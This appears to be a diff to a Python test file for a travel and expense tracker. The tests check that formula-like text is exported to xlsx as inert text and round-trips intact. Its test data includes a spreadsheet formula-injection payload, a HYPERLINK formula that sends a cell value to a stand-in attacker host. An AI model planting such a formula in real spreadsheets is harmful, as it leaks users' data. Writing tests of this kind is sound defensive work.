@@ -21,7 +21,7 @@ from tracker.itinerary.models import Expense, Trip
 from tracker.customers.models import Customer
 
 FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+2", "-3 元", "@SUM(A1:A3)",
-                "=1+1\n第二行", "-"]
+                "=1+1\n第二行", "-", "\t制表符开头", "\r回车开头，尾随空格 "]  # purpose and note: kept as written
 OUTSIDE = {"REMOTE_ADDR": "8.8.8.8"}
 
 
@@ -58,10 +58,9 @@ def test_formula_like_text_is_written_as_text_never_as_a_formula(api, formulaic)
     book = load_workbook(io.BytesIO(data))  # formulas kept as formulas: none may appear
     cells = [cell for row in book["11月"].iter_rows() for cell in row if isinstance(cell.value, str)]
     for text in FORMULA_LIKE:
-        found = [cell for cell in cells if cell.value == text]
+        found = [cell for cell in cells if xlsx.text(cell.value) == text]
         assert len(found) == 3, text  # purpose, note of the trip, note of the expense
-        assert all(cell.data_type == "s" for cell in found), text
-        assert all(cell.quotePrefix for cell in found if text.startswith(("=", "+", "-", "@"))), text
+        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found), text
     assert [cell for cell in cells if cell.value == "@客户"]
 
 
@@ -83,6 +82,27 @@ def test_formula_like_text_round_trips_through_export_and_import(api, formulaic)
     assert imported() == "replaced"  # stored again from the file's text
     assert _texts(formulaic) == before
     assert [purpose for _day, purpose, _note, _customer in before[0]] == FORMULA_LIKE
+
+
+def test_text_sent_through_the_api_starting_with_tab_or_cr_is_stored_and_exported_as_sent(api, team):
+    """Multi-line text is kept as written (a leading TAB or CR, trailing spaces): the workbook's cell is the text
+    that was sent, and so is a work order's description."""
+    purpose, note = "\t=1+1 制表符开头", "\r回车开头 "
+    trip = api("POST", "/trips", "eng1", json={"date": "2026-11-03", "depart": "09:00", "return": "10:00",
+                                               "purpose": purpose, "note": note})
+    assert trip.status_code == 201, trip.get_json()
+    assert (trip.get_json()["purpose"], trip.get_json()["note"]) == (purpose, note)
+    expense = api("POST", "/expenses", "eng1", json={"date": "2026-11-03", "category": "meals", "amount": 20,
+                                                     "note": "  两端空格  "})
+    assert expense.get_json()["note"] == "  两端空格  "
+    book = load_workbook(io.BytesIO(api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()))
+    texts = {xlsx.text(cell.value) for row in book["11月"].iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert {purpose, note, "  两端空格  "} <= texts
+    order = api("POST", "/work-orders", "office", json={"customer": "旗滨玻璃", "service_type": "维修",
+                                                        "engineer": "eng1", "reported_at": "2026-11-03T09:00",
+                                                        "description": "\t第一行\n第二行\n"})
+    assert order.status_code == 201, order.get_json()
+    assert order.get_json()["description"] == "\t第一行\n第二行\n"
 
 
 @pytest.mark.parametrize("text", ["\tx", "\rx", "=A1", "+A1", "-A1", "@A1"])
